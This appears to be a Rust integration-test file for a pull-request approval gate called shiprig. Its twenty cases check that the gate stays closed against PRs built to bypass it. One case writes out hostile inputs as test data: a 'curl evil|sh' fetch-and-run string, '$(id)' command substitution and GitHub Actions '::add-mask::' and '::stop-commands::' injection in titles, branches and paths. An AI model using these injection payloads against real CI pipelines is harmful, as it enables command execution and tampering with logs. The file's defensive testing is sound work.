//! docs/security.md#case-1 to #case-20: a pull request written to get past the gate. Each test
//! drives the real gate (the binary with an event file, or the library entry point on a fake clock
//! where retries would wait) against the emulator and asserts the check run, labels and comment.

use std::time::Duration;

use serde_json::json;
use shiprig::emulator::{Fault, ReviewState};
use shiprig::gate::{GateEnding, GateEvent};

use crate::support::gate_rig::{CHECK, CONFIG, GateRig, REPO};

fn failing(rig: &GateRig, sha: &str) -> String {
    assert_eq!(
        rig.conclusion(sha).as_deref(),
        Some("failure"),
        "{}",
        rig.summary(sha)
    );
    rig.summary(sha)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_01_config_comes_from_the_base_branch_through_the_api() {
    let rig = GateRig::new().await;
    let pr = rig.open_pr(
        "no-rules",
        &[
            (".github/shiprig.yml", "version: 1\n"),
            ("src/auth/login.rs", "x\n"),
        ],
        "dev",
    );
    let base = rig.emu.model().branch_sha(REPO, "main").unwrap();
    let head = rig.head(pr);
    let run = rig.gate_pr(pr).await;
    assert_eq!(run.code, Some(1), "{}{}", run.stdout, run.stderr);
    let summary = failing(&rig, &head);
    assert!(
        summary.contains("### auth") && summary.contains("### gate-config"),
        "{summary}"
    );
    let config_reads: Vec<String> = rig
        .emu
        .requests()
        .into_iter()
        .filter(|r| r.path.ends_with("/contents/.github/shiprig.yml"))
        .map(|r| r.query)
        .collect();
    assert!(!config_reads.is_empty());
    assert!(
        config_reads.iter().all(|q| *q == format!("ref={base}")),
        "every read of the config is at the base: {config_reads:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_02_deleting_the_payments_rule_in_the_pr_changes_nothing() {
    let rig = GateRig::new().await;
    let weakened = CONFIG.replace("    payments:     {paths: [\"src/billing/**\"]}\n", "");
    let pr = rig.open_pr(
        "drop-payments",
        &[
            (".github/shiprig.yml", &weakened),
            ("src/billing/charge.rs", "x\n"),
        ],
        "dev",
    );
    rig.gate_pr(pr).await;
    let summary = failing(&rig, &rig.head(pr));
    assert!(summary.contains("### payments") && summary.contains("src/billing/charge.rs"));
    assert!(summary.contains("### gate-config") && summary.contains(".github/shiprig.yml"));
    assert!(
        rig.labels(pr)
            .contains(&"human-gate:gate-config".to_string())
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_03_workflows_action_and_codeowners_are_gated() {
    let rig = GateRig::new().await;
    let pr = rig.open_pr(
        "ci",
        &[
            (".github/workflows/ci.yml", "on: push\n"),
            ("action.yml", "runs: {using: node20}\n"),
            ("CODEOWNERS", "* @dev\n"),
            (".github/CODEOWNERS", "* @dev\n"),
        ],
        "dev",
    );
    let run = rig.gate_pr(pr).await;
    assert_eq!(run.code, Some(1));
    let summary = failing(&rig, &rig.head(pr));
    for path in [
        ".github/workflows/ci.yml",
        "action.yml",
        "CODEOWNERS",
        ".github/CODEOWNERS",
    ] {
        assert!(
            summary.contains(&format!("added: {path}").replace('_', "\\_")),
            "{path}: {summary}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_04_a_lookalike_gate_workflow_leaves_the_check_failing() {
    let rig = GateRig::new().await;
    let fake = "name: shiprig/human-gate\non: pull_request\njobs:\n  human-gate:\n    name: shiprig/human-gate\n    runs-on: ubuntu-latest\n    steps: [{run: 'true'}]\n";
    let pr = rig.open_pr(
        "fake",
        &[
            (".github/workflows/gate.yml", fake),
            ("src/auth/a.rs", "x\n"),
        ],
        "dev",
    );
    rig.gate_pr(pr).await;
    let head = rig.head(pr);
    let summary = failing(&rig, &head);
    assert!(summary.contains(".github/workflows/gate.yml"));
    let checks = rig.emu.model().check_runs(REPO, &head);
    assert!(
        checks
            .iter()
            .all(|c| c.name != CHECK || c.conclusion.as_deref() == Some("failure"))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_05_rename_out_of_a_gated_folder_is_gated() {
    let rig = GateRig::new().await;
    let pr = {
        let mut m = rig.emu.model();
        m.set_files(
            REPO,
            "move",
            &[("src/util/tokens.rs", "pub fn token() {}\n")],
            "move",
        );
        m.delete_file(REPO, "move", "src/auth/tokens.rs");
        m.create_pull(REPO, "move", "main", "Move tokens", "", "dev")
    };
    let run = rig.gate_pr(pr).await;
    assert_eq!(run.code, Some(1), "{}", run.stdout);
    let summary = failing(&rig, &rig.head(pr));
    assert!(summary.contains("renamed: src/auth/tokens.rs"), "{summary}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_06_deletion_only_change_under_a_gated_glob_is_gated() {
    let rig = GateRig::new().await;
    let pr = {
        let mut m = rig.emu.model();
        m.delete_file(REPO, "drop", "migrations/001_init.sql");
        m.create_pull(REPO, "drop", "main", "Drop", "", "dev")
    };
    rig.gate_pr(pr).await;
    let summary = failing(&rig, &rig.head(pr));
    assert!(
        summary.contains("### schema") && summary.contains("removed: migrations/001\\_init.sql"),
        "{summary}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_07_symlink_or_submodule_inside_a_gated_path_is_gated() {
    let rig = GateRig::new().await;
    let pr = {
        let mut m = rig.emu.model();
        m.set_symlink(REPO, "links", "src/auth/keys", "../../secrets");
        m.set_submodule(
            REPO,
            "links",
            "src/billing/vendor",
            "0123456789abcdef0123456789abcdef01234567",
        );
        m.create_pull(REPO, "links", "main", "Links", "", "dev")
    };
    rig.gate_pr(pr).await;
    let summary = failing(&rig, &rig.head(pr));
    assert!(
        summary.contains("### auth") && summary.contains("src/auth/keys"),
        "{summary}"
    );
    assert!(
        summary.contains("### payments") && summary.contains("src/billing/vendor"),
        "{summary}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_08_three_thousand_files_or_a_failing_page_fail_closed() {
    let rig = GateRig::new().await;
    let names: Vec<String> = (0..3000).map(|i| format!("docs/page{i:04}.md")).collect();
    let files: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "x\n")).collect();
    let big = rig.open_pr("big", &files, "dev");
    let run = rig.gate_pr(big).await;
    assert_eq!(run.code, Some(1), "{}{}", run.stdout, run.stderr);
    let summary = failing(&rig, &rig.head(big));
    assert!(summary.contains("3000 or more files"), "{summary}");
    assert!(rig.labels(big).contains(&"human-gate".to_string()));

    // A page that cannot be read (retried on a fake clock, then given up): never a pass.
    let names: Vec<String> = (0..150).map(|i| format!("docs/p{i}.md")).collect();
    let files: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "x\n")).collect();
    let pr = rig.open_pr("paged", &files, "dev");
    let path = format!("/repos/{REPO}/pulls/{pr}/files");
    rig.emu
        .inject(Fault::status(Some("GET"), &path, 502).from_nth(2));
    let (report, _) = rig.gate_in_process(GateEvent::local(pr)).await;
    assert_eq!(report.ending, GateEnding::NeedsHuman);
    let summary = failing(&rig, &rig.head(pr));
    assert!(summary.contains("could not be read in full"), "{summary}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_09_missing_unparseable_or_unknown_key_config_fails_with_the_reason() {
    for (config, reason) in [
        (None, "does not exist"),
        (Some("gate: [unclosed\n"), "main:1:7"),
        (
            Some("version: 1\ngate: {rulez: {}}\n"),
            "unknown field \\`rulez\\`",
        ),
    ] {
        let rig = GateRig::with_config(config).await;
        let pr = rig.open_pr("docs", &[("docs/a.md", "x\n")], "dev");
        let run = rig.gate_pr(pr).await;
        assert_eq!(
            run.code,
            Some(2),
            "{config:?}: {}{}",
            run.stdout,
            run.stderr
        );
        let summary = failing(&rig, &rig.head(pr));
        assert!(
            summary.contains("fails closed") && summary.contains(reason),
            "{summary}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_10_author_commit_author_and_last_pusher_approvals_do_not_count() {
    let rig = GateRig::new().await;
    let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
    rig.emu
        .model()
        .set_files_by(REPO, "pay", &[("src/billing/b.rs", "y\n")], "more", "carl");
    for who in ["dev", "carl", "pete"] {
        rig.review(pr, who, ReviewState::Approved, "");
    }
    let event = rig.pull_event(pr, "synchronize", "pete");
    let run = rig.gate("pull_request_target", &event, &[]).await;
    assert_eq!(run.code, Some(1), "{}", run.stdout);
    let summary = failing(&rig, &rig.head(pr));
    assert!(
        summary.contains("dev: the pull request's author"),
        "{summary}"
    );
    assert!(summary.contains("carl: a commit author"), "{summary}");
    assert!(
        summary.contains("pete: pushed the head commit"),
        "{summary}"
    );
    rig.review(pr, "bob", ReviewState::Approved, "");
    let run = rig.gate("pull_request_target", &event, &[]).await;
    assert_eq!(
        run.code,
        Some(0),
        "someone else's approval does count: {}",
        run.stdout
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_11_bot_and_agent_approvals_do_not_count() {
    let rig = GateRig::new().await;
    rig.emu
        .model()
        .add_user("rigbot", shiprig::emulator::UserKind::User);
    rig.emu
        .model()
        .set_permission(REPO, "rigbot", shiprig::emulator::Permission::Write);
    let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
    rig.emu.model().add_label(REPO, pr, "agent:agent-2", "acme");
    for who in [
        "helper",
        "helper[bot]",
        "github-actions[bot]",
        "rig-agent-1",
    ] {
        rig.review(pr, who, ReviewState::Approved, "");
    }
    rig.review(
        pr,
        "rigbot",
        ReviewState::Approved,
        "Looks fine.\n\nShiprig-Agent: agent-1",
    );
    let run = rig.gate_pr(pr).await;
    assert_eq!(run.code, Some(1), "{}", run.stdout);
    let summary = failing(&rig, &rig.head(pr));
    for line in [
        "helper: a bot",
        "helper\\[bot\\]: a bot",
        "github-actions\\[bot\\]: a bot",
        "rig-agent-1: the login of agent `agent-1`",
        "rigbot: a review signed by an agent",
        "Written by agent `agent-2`",
    ] {
        assert!(summary.contains(line), "{line}: {summary}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_12_an_approval_before_a_push_is_required_again() {
    let rig = GateRig::new().await;
    let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
    rig.review(pr, "bob", ReviewState::Approved, "");
    assert_eq!(rig.gate_pr(pr).await.code, Some(0));
    let first = rig.head(pr);
    let second = rig.push(pr, "src/billing/a.rs", "y\n");
    assert_eq!(rig.gate_pr(pr).await.code, Some(1));
    assert!(failing(&rig, &second).contains("bob: approved an older commit"));
    assert_eq!(rig.conclusion(&first).as_deref(), Some("success"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_13_changes_requested_blocks_dismissed_is_ignored_comment_keeps_approval() {
    let rig = GateRig::new().await;
    let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
    rig.review(pr, "bob", ReviewState::Approved, "");
    rig.review(pr, "bob", ReviewState::ChangesRequested, "not yet");
    assert_eq!(rig.gate_pr(pr).await.code, Some(1));
    rig.review(pr, "bob", ReviewState::Approved, "");
    rig.review(pr, "bob", ReviewState::Commented, "one nit");
    assert_eq!(
        rig.gate_pr(pr).await.code,
        Some(0),
        "a later comment keeps the approval"
    );
    rig.review(pr, "bob", ReviewState::Dismissed, "");
    assert_eq!(
        rig.gate_pr(pr).await.code,
        Some(1),
        "a dismissed review drops it"
    );
    assert_eq!(rig.conclusion(&rig.head(pr)).as_deref(), Some("failure"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_14_a_moved_head_gets_nothing_posted() {
    let rig = GateRig::new().await;
    let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
    let old = rig.head(pr);
    let stale = rig.pull_event(pr, "synchronize", "dev");
    let new = rig.push(pr, "src/billing/a.rs", "y\n");
    rig.emu.clear_requests();
    let run = rig.gate("pull_request_target", &stale, &[]).await;
    assert_eq!(run.code, Some(0), "{}", run.stdout);
    assert!(run.stdout.contains("head moved"), "{}", run.stdout);
    assert!(rig.emu.writes().is_empty());

    // The head moves while the gate reads: nothing for either SHA.
    rig.emu.inject(Fault::delay(
        Some("GET"),
        &format!("/repos/{REPO}/pulls/{pr}/reviews"),
        Duration::from_millis(400),
    ));
    let (report, newest) = tokio::join!(rig.gate_in_process(GateEvent::local(pr)), async {
        tokio::time::sleep(Duration::from_millis(150)).await;
        rig.push(pr, "src/billing/a.rs", "z\n")
    });
    assert_eq!(
        report.0.ending,
        GateEnding::Superseded,
        "{:?}",
        report.0.notes
    );
    assert!(rig.emu.writes().is_empty());
    for sha in [&old, &new, &newest] {
        assert!(rig.check(sha).is_none());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_15_labels_never_override_the_gate() {
    let rig = GateRig::new().await;
    let pr = rig.open_pr("pay", &[("src/billing/a.rs", "x\n")], "dev");
    rig.emu
        .model()
        .add_label(REPO, pr, "human-gate:approved", "mallory");
    rig.emu.model().add_label(REPO, pr, "skip-gate", "alice");
    rig.emu.model().add_label(REPO, pr, "approved", "alice");
    let run = rig.gate_pr(pr).await;
    assert_eq!(run.code, Some(1), "{}", run.stdout);
    failing(&rig, &rig.head(pr));
    assert_eq!(
        rig.labels(pr),
        ["approved", "human-gate", "human-gate:payments", "skip-gate"]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_16_new_dependency_forms_are_gated_and_named() {
    let rig = GateRig::new().await;
    let cargo = "[package]\nname = \"rig\"\n\n[dependencies]\nserde = \"1\"\nnewcrate = \"1\"\nfromgit = { git = \"https://example.com/g\" }\n\n[workspace]\nmembers = [\"crates/extra\"]\n\n[patch.crates-io]\nserde = { path = \"../serde\" }\n";
    let lock = "version = 4\n[[package]]\nname = \"lockonly\"\nversion = \"0.1.0\"\n";
    let pr = rig.open_pr(
        "deps",
        &[
            ("Cargo.toml", cargo),
            ("Cargo.lock", lock),
            (
                "web/package.json",
                r#"{"dependencies": {"left-pad": "^1"}, "devDependencies": {"jest": "29"}}"#,
            ),
            ("requirements.txt", "requests==2.32.0\n"),
            ("go.mod", "module x\n\nrequire github.com/evil/mod v0.1.0\n"),
            (
                "Gemfile",
                "source \"https://rubygems.org\"\ngem \"nokogiri\"\n",
            ),
            ("composer.json", r#"{"require": {"monolog/monolog": "^3"}}"#),
            (
                "pyproject.toml",
                "[project]\nname = \"x\"\ndependencies = [\"httpx>=0.27\"]\n",
            ),
        ],
        "dev",
    );
    rig.gate_pr(pr).await;
    let summary = failing(&rig, &rig.head(pr));
    for name in [
        "newcrate",
        "fromgit",
        "crates/extra",
        "lockonly",
        "left-pad",
        "jest",
        "requests",
        "github.com/evil/mod",
        "nokogiri",
        "monolog/monolog",
        "httpx",
        "patch.'crates-io'",
    ] {
        assert!(
            summary.contains(&shiprig::markdown::inline(name, 300)),
            "{name}: {summary}"
        );
    }
    // A version bump alone follows the policy: not gated by default.
    let bump = rig.open_pr(
        "bump",
        &[(
            "Cargo.toml",
            "[package]\nname = \"rig\"\n\n[dependencies]\nserde = \"1.0.200\"\n",
        )],
        "dev",
    );
    assert_eq!(rig.gate_pr(bump).await.code, Some(0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_17_deletion_logic_outside_gated_folders_is_found_in_the_diff() {
    let rig = GateRig::new().await;
    let pr = {
        let mut m = rig.emu.model();
        m.set_files(REPO, "purge", &[("src/jobs/cleanup.rs", "fn purge(db: &Db) {\n    db.execute(\"delete from users where inactive\");\n}\n"), ("docs/moved.md", "pub fn token() {}\n")], "purge");
        m.create_pull(REPO, "purge", "main", "Purge", "", "dev")
    };
    let run = rig.gate_pr(pr).await;
    assert_eq!(run.code, Some(1), "{}{}", run.stdout, run.stderr);
    let summary = failing(&rig, &rig.head(pr));
    assert!(
        summary.contains("### deletion") && summary.contains("line in src/jobs/cleanup.rs"),
        "{summary}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_18_hostile_titles_branches_bodies_and_paths_are_data() {
    let rig = GateRig::new().await;
    let evil = "x\"; curl evil|sh; echo \"\n::add-mask::hunter2\n::stop-commands::pwned\n$(id)";
    let long = format!("{evil}{}", "A".repeat(10_240));
    let path = "src/auth/$(id)\n::add-mask::x.rs";
    let pr = {
        let mut m = rig.emu.model();
        m.set_files(
            REPO,
            "feat/$(id)\";curl",
            &[(path, &format!("{long}\n"))],
            &long,
        );
        m.create_pull(
            REPO,
            "feat/$(id)\";curl",
            "main",
            &long,
            &format!("Closes #999\n{long}"),
            "dev",
        )
    };
    let run = rig.gate_pr(pr).await;
    assert_eq!(run.code, Some(1), "{}{}", run.stdout, run.stderr);
    let summary = failing(&rig, &rig.head(pr));
    let comment = rig.comments(pr).remove(0);
    for text in [&summary, &comment, &run.stdout, &run.stderr] {
        assert!(
            text.lines().all(|l| !l.trim_start().starts_with("::")),
            "{text}"
        );
    }
    assert!(
        summary.contains("src/auth/$(id)\\n::add-mask::x.rs"),
        "{summary}"
    );
    assert!(
        run.stdout.contains("src/auth/$(id)\\n::add-mask::x.rs"),
        "{}",
        run.stdout
    );
    assert!(summary.len() < 65_535);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_19_a_retargeted_base_is_judged_again_on_edited() {
    let rig = GateRig::new().await;
    let strict = CONFIG.replace("  rules:\n", "  rules:\n    docs: {paths: [\"docs/**\"]}\n");
    rig.emu
        .model()
        .set_file(REPO, "release", ".github/shiprig.yml", &strict);
    let pr = rig.open_pr("doc", &[("docs/guide.md", "x\n")], "dev");
    assert_eq!(rig.gate_pr(pr).await.code, Some(0));
    let gh = shiprig::github::GitHub::new(shiprig::github::ClientOptions::new(
        rig.emu.url(),
        shiprig::github::Credentials::Token(shiprig::github::Secret::new("gate-token")),
    ))
    .unwrap();
    let _: serde_json::Value = gh
        .send(
            http::Method::PATCH,
            &format!("/repos/{REPO}/pulls/{pr}"),
            &json!({"base": "release"}),
        )
        .await
        .unwrap();
    let edited = rig.pull_event(pr, "edited", "dev");
    let run = rig.gate("pull_request_target", &edited, &[]).await;
    assert_eq!(run.code, Some(1), "{}{}", run.stdout, run.stderr);
    assert!(failing(&rig, &rig.head(pr)).contains("### docs"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_20_github_failing_mid_evaluation_never_passes() {
    let rig = GateRig::new().await;
    let pr = rig.open_pr("docs", &[("docs/a.md", "x\n")], "dev");
    let reviews = format!("/repos/{REPO}/pulls/{pr}/reviews");
    rig.emu.inject(Fault::status(Some("GET"), &reviews, 502));
    let (report, clock) = rig.gate_in_process(GateEvent::local(pr)).await;
    assert_eq!(report.ending, GateEnding::Outside);
    let summary = failing(&rig, &rig.head(pr));
    assert!(
        summary.contains("GitHub failed while the gate was reading"),
        "{summary}"
    );
    assert!(!clock.sleeps().is_empty() && clock.slept() < Duration::from_secs(300));

    rig.emu.clear_faults();
    rig.emu.inject(
        Fault::status(Some("GET"), &reviews, 403)
            .with_message("You have exceeded a secondary rate limit")
            .with_header("retry-after", "60"),
    );
    let (report, clock) = rig.gate_in_process(GateEvent::local(pr)).await;
    assert_eq!(report.ending, GateEnding::Outside);
    assert!(clock.slept() >= Duration::from_secs(60));
    assert_eq!(rig.conclusion(&rig.head(pr)).as_deref(), Some("failure"));
    let head = rig.head(pr);
    let checks = rig.emu.model().check_runs(REPO, &head);
    assert!(
        checks
            .iter()
            .all(|c| c.conclusion.as_deref() != Some("success"))
    );
}
